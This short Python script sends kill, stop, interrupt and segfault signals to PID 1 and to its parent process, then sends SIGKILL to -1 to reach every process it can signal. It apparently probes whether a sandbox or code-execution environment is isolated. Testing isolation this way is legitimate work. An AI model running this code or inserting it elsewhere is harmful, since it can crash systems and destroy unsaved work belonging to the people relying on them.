import os
import signal


def main():
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGSEGV):
        for target in (1, os.getppid()):
            os.kill(target, number)
    try:
        os.kill(-1, signal.SIGKILL)
    except ProcessLookupError:
        return "nobody else"
